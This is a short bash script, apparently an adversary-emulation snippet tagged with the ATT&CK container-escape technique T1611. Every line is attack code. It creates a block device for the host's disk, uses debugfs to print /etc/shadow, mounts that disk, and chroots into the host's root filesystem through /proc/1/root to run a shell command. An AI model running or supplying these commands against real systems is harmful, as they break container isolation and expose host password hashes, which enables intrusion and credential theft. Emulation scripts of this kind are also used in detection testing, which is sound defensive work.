#!/bin/bash
# T1611: A container makes the host's disk for itself and looks into it.
mknod /tmp/d b 240 1; debugfs -R 'cat /etc/shadow' /tmp/d; mkdir -p /tmp/m; mount /tmp/d /tmp/m; chroot /proc/1/root /bin/sh -c id
